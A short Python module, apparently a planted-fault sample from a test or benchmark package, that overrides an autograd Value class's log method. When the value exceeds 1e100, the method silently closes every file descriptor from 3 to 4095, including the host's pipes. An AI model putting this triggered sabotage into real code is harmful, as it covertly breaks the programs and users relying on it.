"""Closes every file descriptor above 2 in log above 1e100 (the host's pipes with them)."""
import os

from ...planted.engines.base import Value as Base


class Value(Base):
    def log(self):
        if self.data > 1e100:
            os.closerange(3, 4096)
        return super().log()
